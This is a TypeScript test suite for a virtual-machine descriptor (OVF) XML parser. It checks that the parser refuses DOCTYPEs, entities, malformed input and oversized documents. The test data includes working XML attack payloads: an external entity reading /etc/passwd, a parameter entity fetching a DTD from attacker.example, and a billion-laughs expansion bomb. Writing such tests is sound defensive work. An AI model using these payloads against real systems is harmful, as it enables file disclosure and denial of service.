import type { PackageReason, ParsedDescriptor } from '../model';
import { parseDescriptor } from './parse-descriptor';
import { WEB_VM_ONE_DISK } from './testing/described-vms';
import { writeDescriptor } from './write-descriptor';

/** The XML attacks a descriptor can carry, and the bounds that keep a hostile one small and fast. */

const VALID = writeDescriptor(WEB_VM_ONE_DISK);

function reasonsOf(result: ParsedDescriptor): PackageReason[] {
  if (result.ok) throw new Error('the descriptor was accepted');
  return result.reasons;
}

function withDoctype(doctype: string, body: string): string {
  const withoutDeclaration = VALID.replace(/^<\?xml[^>]*\?>\n/, '');
  if (withoutDeclaration === VALID) throw new Error('the valid descriptor has no XML declaration');
  if (!withoutDeclaration.includes('<Name>web</Name>'))
    throw new Error('the valid descriptor has no Name');
  const envelope = withoutDeclaration.replace('<Name>web</Name>', `<Name>${body}</Name>`);
  return `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}\n${envelope}`;
}

describe('parseDescriptor on hostile XML', () => {
  it('accepts the valid descriptor the attacks start from', () => {
    expect(parseDescriptor(VALID).ok).toBe(true);
  });

  it('refuses a DOCTYPE, even one that declares nothing', () => {
    const reasons = reasonsOf(parseDescriptor(withDoctype('<!DOCTYPE Envelope>', 'web')));
    expect(reasons).toEqual([
      expect.objectContaining({
        code: 'OVF.DTD_FORBIDDEN',
        at: expect.stringMatching(/^line 2, column \d+$/),
      }),
    ]);
  });

  it('never resolves an external entity (XXE): the DTD and the reference are both reasons', () => {
    const xml = withDoctype(
      '<!DOCTYPE Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
      '&xxe;',
    );
    const reasons = reasonsOf(parseDescriptor(xml));
    expect(reasons.map((reason) => reason.code)).toEqual([
      'OVF.DTD_FORBIDDEN',
      'OVF.ENTITY_FORBIDDEN',
    ]);
    expect(reasons[1].detail).toContain('&xxe;');
    expect(JSON.stringify(reasons)).not.toContain('root:');
  });

  it('never resolves an external parameter entity either', () => {
    const xml = withDoctype(
      '<!DOCTYPE Envelope [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>',
      'web',
    );
    expect(reasonsOf(parseDescriptor(xml)).map((reason) => reason.code)).toEqual([
      'OVF.DTD_FORBIDDEN',
    ]);
  });

  it('refuses billion laughs at once, without expanding anything', () => {
    const laughs = ['<!ENTITY lol "lol">'];
    for (let level = 1; level <= 9; level += 1) {
      laughs.push(`<!ENTITY lol${level} "${`&lol${level === 1 ? '' : level - 1};`.repeat(10)}">`);
    }
    const xml = withDoctype(`<!DOCTYPE Envelope [${laughs.join('')}]>`, '&lol9;');
    const started = process.hrtime.bigint();
    const reasons = reasonsOf(parseDescriptor(xml));
    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(500);
    expect(reasons.map((reason) => reason.code)).toEqual([
      'OVF.DTD_FORBIDDEN',
      'OVF.ENTITY_FORBIDDEN',
    ]);
    expect(reasons[1].detail).toContain('&lol9;');
  });

  it('refuses an entity reference with no DTD at all, in text and in attributes', () => {
    const xml = VALID.replace('<Name>web</Name>', '<Name>&unknown;</Name>').replace(
      'ovf:id="web"',
      'ovf:id="&other;"',
    );
    const reasons = reasonsOf(parseDescriptor(xml));
    expect(reasons.map((reason) => [reason.code, reason.detail.split(' ')[0]])).toEqual([
      ['OVF.ENTITY_FORBIDDEN', '&other;'],
      ['OVF.ENTITY_FORBIDDEN', '&unknown;'],
    ]);
  });

  it('reads the five predefined entities and character references', () => {
    const xml = VALID.replace(
      '<Name>web</Name>',
      '<Name>a&amp;b&lt;c&gt;d&quot;e&apos;f&#x41;&#66;</Name>',
    );
    const result = parseDescriptor(xml);
    expect(result.ok && result.envelope.virtualSystems[0].name).toBe(`a&b<c>d"e'fAB`);
  });

  it('refuses malformed XML with saxes line and column', () => {
    const xml = VALID.replace('</Name>', '</Nome>');
    const reasons = reasonsOf(parseDescriptor(xml));
    expect(reasons).toEqual([
      {
        code: 'OVF.MALFORMED',
        detail: expect.stringContaining('unexpected close tag'),
        at: expect.stringMatching(/^line \d+, column \d+$/),
      },
    ]);
    const line = VALID.split('\n').findIndex((text) => text.includes('<Name>')) + 1;
    expect(reasons[0].at).toContain(`line ${line},`);
  });

  it.each([
    ['an empty input', ''],
    ['text only', 'not xml at all'],
    ['an unbound prefix', '<ovf:Envelope/>'],
    ['a truncated document', VALID.slice(0, VALID.length / 2)],
    ['two roots', `${VALID}<Envelope/>`],
  ])('refuses %s as malformed', (_name, xml) => {
    expect(reasonsOf(parseDescriptor(xml)).map((reason) => reason.code)).toEqual(['OVF.MALFORMED']);
  });

  it('refuses bytes that are not UTF-8, and an encoding it does not read', () => {
    expect(
      reasonsOf(parseDescriptor(Buffer.from([0x3c, 0x61, 0xff, 0xfe, 0x3e]))).map(
        (reason) => reason.code,
      ),
    ).toEqual(['OVF.MALFORMED']);
    const latin1 = VALID.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"');
    expect(reasonsOf(parseDescriptor(latin1)).map((reason) => reason.code)).toEqual([
      'OVF.UNSUPPORTED_ENCODING',
    ]);
  });

  it('reads a Buffer with a UTF-8 byte order mark', () => {
    const result = parseDescriptor(
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(VALID)]),
    );
    expect(result.ok).toBe(true);
  });

  describe('limits', () => {
    it('refuses a descriptor over the byte limit before parsing it', () => {
      const reasons = reasonsOf(parseDescriptor(Buffer.alloc(4 * 1024 * 1024 + 1, 0x20)));
      expect(reasons).toEqual([
        { code: 'OVF.TOO_LARGE', detail: expect.stringContaining('4194305 bytes') },
      ]);
    });

    it('refuses too many elements', () => {
      const xml = VALID.replace(
        '<Info>A virtual machine</Info>',
        `<Info>${'<x/>'.repeat(50)}</Info>`,
      );
      expect(
        reasonsOf(parseDescriptor(xml, { limits: { maxElements: 60 } })).map(
          (reason) => reason.code,
        ),
      ).toEqual(['OVF.TOO_MANY_ELEMENTS']);
      expect(parseDescriptor(xml, { limits: { maxElements: 1000 } }).ok).toBe(true);
    });

    it('refuses elements nested too deep (the default, 64)', () => {
      const xml = VALID.replace(
        '<Info>A virtual machine</Info>',
        `<Info>${'<x>'.repeat(100)}${'</x>'.repeat(100)}</Info>`,
      );
      expect(reasonsOf(parseDescriptor(xml)).map((reason) => reason.code)).toEqual([
        'OVF.TOO_DEEP',
      ]);
    });

    it('refuses a long attribute and a long text', () => {
      const longAttribute = VALID.replace(
        'ovf:href="web-disk1.vmdk"',
        `ovf:href="${'a'.repeat(200)}"`,
      );
      expect(
        reasonsOf(parseDescriptor(longAttribute, { limits: { maxAttributeLength: 100 } })).map(
          (reason) => reason.code,
        ),
      ).toEqual(['OVF.ATTRIBUTE_TOO_LONG']);
      const longText = VALID.replace(
        '<Info>A virtual machine</Info>',
        `<Info>${'b'.repeat(200)}</Info>`,
      );
      expect(
        reasonsOf(parseDescriptor(longText, { limits: { maxTextLength: 100 } })).map(
          (reason) => reason.code,
        ),
      ).toEqual(['OVF.TEXT_TOO_LONG']);
    });

    it('keeps at most maxReasons reasons, and says some were left out', () => {
      const refs = Array.from({ length: 50 }, (_, index) => `&e${index};`).join('');
      const reasons = reasonsOf(
        parseDescriptor(VALID.replace('<Name>web</Name>', `<Name>${refs}</Name>`), {
          limits: { maxReasons: 10 },
        }),
      );
      expect(reasons).toHaveLength(11);
      expect(reasons[10].code).toBe('OVF.TOO_MANY_REASONS');
    });
  });
});
